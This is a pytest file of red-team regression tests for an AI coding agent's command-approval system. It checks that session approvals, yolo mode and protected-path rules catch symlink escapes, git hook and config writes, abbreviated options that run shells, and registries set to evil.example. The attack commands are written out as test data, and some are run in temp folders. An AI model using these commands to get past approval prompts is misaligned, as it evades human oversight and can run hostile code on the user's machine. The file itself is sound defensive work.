"""Red-team findings on approvals (issue 12, #2 and #8): session scopes, protected writes and
kode-tui's own git, tried with real files, real symlinks and a real git."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from kode_tui import gitcmd
from kode_tui.session.state import ApprovalMode
from kode_tui.tools import grep
from kode_tui.tools.base import ToolEnv
from kode_tui.tools.command_scope import scope_of
from kode_tui.tools.files import WriteFile, WriteFileParams
from kode_tui.tools.protected import is_protected
from kode_tui.tools.shell import Shell, ShellParams
from tests.soul.test_approval_safety import Asker


async def shell_runs(work_dir: Path, command: str) -> str:
    result = await Shell().run(ShellParams(command=command), ToolEnv(work_dir=work_dir), "call")
    return result.output


# --- paths: bash resolves `link/..` through the link -------------------------------------------


async def test_a_symlink_then_dotdot_is_checked_where_bash_goes(tmp_path: Path) -> None:
    work = tmp_path / "work"
    (tmp_path / "outside" / "deep").mkdir(parents=True)
    (tmp_path / "outside" / "secret").write_text("TOP SECRET\n")
    work.mkdir()
    (work / "d").symlink_to(tmp_path / "outside" / "deep")
    # The attack is real: bash reads the file next to the link's target.
    assert "TOP SECRET" in await shell_runs(work, "cat d/../secret")
    asker = Asker(work)
    assert await asker.asks("cat README.md")
    assert await asker.asks("cat d/../secret")
    assert asker.asked[-1].outside_work_dir


async def test_a_symlink_then_dotdot_into_git_is_a_protected_write(tmp_path: Path) -> None:
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    (tmp_path / "docs").symlink_to(".git/hooks")
    # `docs/../config` is `.git/config` for bash, `config` for a lexical normalisation.
    assert is_protected(Path(os.path.join(tmp_path, "docs", "..", "config")), tmp_path)
    asker = Asker(tmp_path)
    assert await asker.asks("cp a.txt b.txt")
    await asker.approval.set_mode("yolo")
    assert await asker.asks("cp evil.cfg docs/../config")
    assert asker.asked[-1].always_ask


async def test_a_line_continuation_is_never_widened_and_its_paths_are_checked(
    tmp_path: Path,
) -> None:
    (tmp_path / "README.md").write_text("readme\n")
    asker = Asker(tmp_path)
    assert await asker.asks("cat README.md")
    continued = "cat README.md \\\n/etc/hostname"
    assert await asker.asks(continued)  # bash runs `cat README.md /etc/hostname`
    assert asker.asked[-1].outside_work_dir
    assert scope_of("git log \\\n-c alias.x=!id x", tmp_path).exact


def test_a_glob_of_dots_that_can_match_dotdot_is_unknown(tmp_path: Path) -> None:
    assert scope_of("cat ..*/secret", tmp_path).outside


# --- a session approval covers no command that runs a program -----------------------------------


@pytest.mark.parametrize(
    ("approved", "attack"),
    [
        # long options abbreviated, as getopt_long and git accept them
        ("tar -czf a.tgz src", "tar -cf a.tar --to-comm=sh src"),
        ("tar -czf a.tgz src", "tar -cf a.tar --checkpoint=1 --checkpoint-act=exec=sh src"),
        ("tar -czf a.tgz src", "tar -cf a.tar --use-comp=sh src"),
        ("git grep -n x", "git grep --open=sh -l touch"),
        ("git grep -n x", "git grep -lOsh touch"),
        ("sort a.txt", "sort --compress-prog=sh a.txt"),
        ("zip -r a.zip src", "zip --unzip-comm sh a.zip src"),
        # interpreters and shells with inline code, runners that take a command
        ("ipython --version", "ipython -c 'import os; os.system(\"touch pwned\")'"),
        ("python3-dbg -V", "python3-dbg -c 'import os'"),
        ("micropython -h", "micropython -c 'import os'"),
        ("xonsh --version", "xonsh -c 'touch pwned'"),
        ("gnuplot --version", "gnuplot -e 'system(\"touch pwned\")'"),
        ("dc --version", "dc -e '!touch pwned'"),
        ("chrt -p 1", "chrt -o 0 sh -c 'touch pwned'"),
        ("prlimit --version", "prlimit sh -c 'touch pwned'"),
        ("hyperfine --version", "hyperfine 'touch pwned'"),
        ("fd foo", "fd . -x sh -c 'touch pwned'"),
        ("fd foo", "fd -Hx touch pwned"),
        ("cmake --build build", "cmake -E env sh -c 'touch pwned'"),
        ("go vet ./...", "go vet -vettool=sh ./..."),
        ("cargo build", "cargo build --config 'target.x.runner=\"sh\"'"),
        # extracting writes what the archive or patch names (`-P`: outside too)
        ("tar -tf a.tar", "tar -xf a.tar"),
        ("tar -tf a.tar", "tar xf a.tar"),
        ("tar -tf a.tar", "tar -tPf a.tar"),
        ("unzip -l a.zip", "unzip a.zip"),
        ("patch --version", "patch -p1 -i x.patch"),
        # code in the arguments of a module or an installer, commands scheduled for later
        ("python3 -m timeit '1+1'", 'python3 -m timeit \'__import__("os").system("id")\''),
        ("python3 -m pdb x.py", "python3 -m pdb -c '!import os; os.system(\"id\")' x.py"),
        ("python3 -m pip --version", "python3 -m pip install ./x"),
        ("npm install", "npm install evil-package"),
        ("npm install", "npm install --registry=https://evil.example"),
        ("uv pip list", "uv pip install ./x"),
        ("pip list", "pip config set global.index-url https://evil.example"),
        ("crontab -l", "crontab evil.txt"),
        ("curl -s https://example.com", "curl -K evil.cfg https://example.com"),
        # single-dash long options, pipe file names, programs that run their argument
        ("gcc -O2 -o hello hello.c", "gcc -wrapper sh,-c,id hello.c"),
        ("pdflatex paper.tex", "pdflatex -shell-escape paper.tex"),
        ("convert a.png b.jpg", "convert '|touch pwned' b.jpg"),
        ("pandoc -o a.html a.md", "pandoc -F ./filter a.md"),
        ("ldd --version", "ldd ./evil"),
        ("ansible --version", "ansible localhost -m shell -a 'touch pwned'"),
    ],
)
async def test_a_session_approval_does_not_cover_a_program_run_by_an_argument(
    tmp_path: Path, approved: str, attack: str
) -> None:
    asker = Asker(tmp_path)
    assert await asker.asks(approved)
    assert not await asker.asks(approved)
    assert await asker.asks(attack)
    assert asker.asked[-1].scope_label == "exactly this command"


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
async def test_git_grep_open_files_in_pager_abbreviated_runs_the_matched_file(
    tmp_path: Path,
) -> None:
    # Why `git grep --open=…` is not `git grep` with harmless arguments: git runs it.
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    (tmp_path / "x.sh").write_text("touch pwned\n")
    subprocess.run(["git", "add", "x.sh"], cwd=tmp_path, check=True)
    await shell_runs(tmp_path, "git grep --open=sh -l touch")
    assert (tmp_path / "pwned").exists()
    assert scope_of("git grep --open=sh -l touch", tmp_path).exact


def test_a_bare_install_is_labelled_as_covering_no_arguments(tmp_path: Path) -> None:
    found = scope_of("npm install", tmp_path)
    assert found.key == "shell:npm install"
    assert found.label == "`npm install` with no arguments"
    assert scope_of("npm install left-pad", tmp_path).exact


@pytest.mark.parametrize(
    ("command", "scope"),
    [
        ("tar -czf a.tgz src", "tar"),
        ("cargo build --release", "cargo build"),
        ("uv run python -m pytest -q", "uv run python -m pytest"),
        ("find . -name x", "find"),
        ("git log -- sh", "git log"),
        ("grep -rn python src", "grep"),
        ("rm -- x", "rm"),
    ],
)
def test_ordinary_commands_are_still_widened(tmp_path: Path, command: str, scope: str) -> None:
    found = scope_of(command, tmp_path)
    assert not found.exact
    assert found.key == f"shell:{scope}"


# --- commands that write git's config or hooks without naming the file --------------------------


@pytest.mark.parametrize(
    "attack",
    [
        "git config core.fsmonitor 'touch pwned'",
        "git config --global core.pager 'touch pwned'",
        "git -C . config --add alias.x '!touch pwned'",
        "echo ok && git config set core.hooksPath hooks",
        "pre-commit install",
        "npx husky",
        "git lfs install",
    ],
)
@pytest.mark.parametrize("mode", ["ask", "yolo"])
async def test_a_command_that_writes_git_config_or_hooks_asks_every_time(
    tmp_path: Path, attack: str, mode: ApprovalMode
) -> None:
    asker = Asker(tmp_path)
    await asker.approval.set_mode(mode)
    assert await asker.asks(attack)
    assert asker.asked[-1].always_ask
    assert asker.asked[-1].scope_label == ""


@pytest.mark.parametrize(
    "command",
    [
        "git config --get user.email",
        "git config user.email",
        "git config --list",
        "git config user.email bot@example.com",
        "git config set user.name Bot",
    ],
)
def test_reading_git_config_is_not_protected(tmp_path: Path, command: str) -> None:
    assert not scope_of(command, tmp_path).protected


# --- more files that make tools run code ---------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        ".vimrc",
        ".exrc",
        ".nvim.lua",
        "sub/.pdbrc",
        ".gdbinit",
        ".Rprofile",
        ".irbrc",
        ".ssh/config",
        ".config/git/config",
        ".config/fish/config.fish",
        "mise.local.toml",
        ".kshrc",
    ],
)
async def test_more_files_that_run_code_ask_even_in_auto_edit(tmp_path: Path, name: str) -> None:
    env = ToolEnv(work_dir=tmp_path)
    permission = await WriteFile().permission(WriteFileParams(path=name, content="x\n"), env)
    assert permission is not None
    assert permission.always_ask


# --- kode-tui's own git and rg never come from the work dir --------------------------------------


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
async def test_a_relative_path_entry_never_runs_the_repos_own_git_rg_or_bash(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    subprocess.run(["git", "init", "-q"], cwd=repo, check=True)
    for name in ("git", "rg", "bash"):
        fake = repo / name
        fake.write_text(f"#!/bin/sh\ntouch {repo}/PWNED_{name}\n")
        fake.chmod(0o755)
    # `PATH=:/usr/bin` (an empty entry) and `.` mean the working folder: the repository.
    monkeypatch.setenv("PATH", os.pathsep.join(["", ".", os.environ.get("PATH", "")]))
    monkeypatch.chdir(repo)
    done = gitcmd.run(["ls-files"], repo, timeout=10)
    assert done.returncode == 0
    found = grep.find_rg()
    assert found is None or os.path.isabs(found)
    assert "hello" in await shell_runs(repo, "echo hello")
    assert sorted(p.name for p in repo.iterdir()) == [".git", "bash", "git", "rg"]


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
async def test_the_git_dir_a_dotgit_file_points_to_is_protected(tmp_path: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    # `.git` is a file here (`gitdir: …/meta`): the config git reads is `meta/config`.
    subprocess.run(["git", "init", "-q", f"--separate-git-dir={work / 'meta'}"], cwd=work)
    assert (work / ".git").is_file()
    env = ToolEnv(work_dir=work)
    for name in ("meta/config", "meta/hooks/pre-commit", "./meta/../meta/config"):
        params = WriteFileParams(path=name, content="[core]\n\tfsmonitor = touch pwned\n")
        permission = await WriteFile().permission(params, env)
        assert permission is not None and permission.always_ask, name
    assert scope_of("cp evil meta/config", work).protected
    assert not is_protected(work / "src" / "main.py", work)


async def test_a_folder_git_would_take_for_a_repository_is_protected(tmp_path: Path) -> None:
    # Without a `.git`, git in `fake/` finds `fake/` itself: HEAD, objects/ and refs/.
    fake = tmp_path / "fake"
    (fake / "objects").mkdir(parents=True)
    (fake / "refs").mkdir()
    assert not is_protected(fake / "config", tmp_path)
    assert is_protected(fake / "HEAD", tmp_path)  # the write that completes it
    (fake / "HEAD").write_text("ref: refs/heads/main\n")
    assert is_protected(fake / "config", tmp_path)
    assert is_protected(fake / "hooks" / "pre-commit", tmp_path)


@pytest.mark.parametrize(
    "attack",
    ["cp -rT template .", "cp -r template/. .", "rsync -a template/ .", "cp -t . -r template"],
)
async def test_copying_a_folder_that_holds_a_protected_file_asks_every_time(
    tmp_path: Path, attack: str
) -> None:
    (tmp_path / "template" / ".vscode").mkdir(parents=True)
    (tmp_path / "template" / ".vscode" / "tasks.json").write_text("{}")
    (tmp_path / "plain").mkdir()
    (tmp_path / "plain" / "a.txt").write_text("a")
    asker = Asker(tmp_path)
    assert await asker.asks("cp -r plain copy")
    assert not await asker.asks("cp -r plain other")
    assert not await asker.asks("cp -t . plain/a.txt")
    assert await asker.asks(attack)
    assert asker.asked[-1].always_ask


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
async def test_the_folder_core_hooks_path_names_is_protected(tmp_path: Path) -> None:
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    subprocess.run(["git", "config", "core.hooksPath", "scripts/hooks"], cwd=tmp_path, check=True)
    env = ToolEnv(work_dir=tmp_path)
    hook = WriteFileParams(path="scripts/hooks/pre-commit", content="#!/bin/sh\ntouch pwned\n")
    permission = await WriteFile().permission(hook, env)
    assert permission is not None and permission.always_ask
    assert scope_of("cp x.sh scripts/hooks/pre-commit", tmp_path).protected
    other = await WriteFile().permission(WriteFileParams(path="scripts/build.sh", content=""), env)
    assert other is not None and not other.always_ask


async def test_overwriting_a_program_on_path_asks_even_in_yolo(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    work, bin_dir = tmp_path / "work", tmp_path / "bin"
    work.mkdir()
    bin_dir.mkdir()
    (bin_dir / "git").write_text("#!/bin/sh\n")
    (bin_dir / "git").chmod(0o755)
    (bin_dir / "notes.txt").write_text("")
    monkeypatch.setenv("PATH", os.pathsep.join([str(bin_dir), os.environ.get("PATH", "")]))
    env = ToolEnv(work_dir=work)
    params = WriteFileParams(path=str(bin_dir / "git"), content="#!/bin/sh\ntouch pwned\n")
    permission = await WriteFile().permission(params, env)
    assert permission is not None and permission.always_ask
    notes = WriteFileParams(path=str(bin_dir / "notes.txt"), content="")
    plain = await WriteFile().permission(notes, env)
    assert plain is not None and not plain.always_ask and plain.outside_work_dir


@pytest.mark.parametrize("attack", ["cat $HOME/secret", 'cat "${HOME}/secret"'])
async def test_a_variable_that_names_a_path_outside_asks_every_time(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, attack: str
) -> None:
    work, home = tmp_path / "work", tmp_path / "home"
    work.mkdir()
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    asker = Asker(work)
    assert await asker.asks(attack)
    assert asker.asked[-1].outside_work_dir
    assert asker.asked[-1].scope_label == ""  # no session approval offered
    assert await asker.asks(attack)
    assert not scope_of("ls $PWD/src", work).outside


@pytest.mark.parametrize("argument", ["A" * 300, "a/" * 3000 + "b", "loop/x"])
async def test_an_argument_no_file_can_be_named_still_gets_an_approval(
    tmp_path: Path, argument: str
) -> None:
    (tmp_path / "loop").symlink_to("loop")  # ELOOP
    asker = Asker(tmp_path)
    # ENAMETOOLONG and ELOOP from the protected-file check used to escape the approval check
    # and end the turn with an error instead of a question.
    assert await asker.asks(f"echo {argument}\nrm x")
    assert "exactly this command" in asker.asked[-1].scope_label


async def test_a_call_whose_approval_check_fails_asks_every_time_even_in_yolo(
    tmp_path: Path,
) -> None:
    from kode_tui.message import FunctionBody, ToolCall
    from kode_tui.tools.base import Permission
    from kode_tui.tools.toolset import Toolset

    class Broken(Shell):
        async def permission(self, params: ShellParams, env: ToolEnv) -> Permission | None:
            raise RuntimeError("a bug in the check")

    toolset = Toolset([Broken()])
    prepared = toolset.prepare(
        ToolCall(id="c", function=FunctionBody(name="Shell", arguments='{"command": "rm -rf x"}'))
    )
    permission = await toolset.permission(prepared, ToolEnv(work_dir=tmp_path))

    assert permission is not None and permission.asks_every_time
    assert "rm -rf x" in permission.description
    asker = Asker(tmp_path)
    await asker.approval.set_mode("yolo")
    await asker.approval.request("Shell", "c", permission)
    assert asker.asked and not asker.asked[-1].scope_label
